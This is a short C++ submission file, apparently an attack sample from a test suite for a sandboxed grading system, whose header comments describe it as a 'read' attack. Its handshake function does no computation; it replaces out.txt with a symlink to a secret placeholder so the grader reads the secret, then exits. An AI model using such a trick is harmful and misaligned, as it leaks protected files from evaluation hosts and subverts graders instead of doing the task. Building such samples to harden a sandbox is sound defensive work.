// attack: read
// root: host
// what: makes its output file a link to the secret, so that the grader reads the secret
// list: 5
#include <stdlib.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  unlink("out.txt");
  if (symlink("@SECRET@", "out.txt") != 0) abort();
  _exit(0);
}
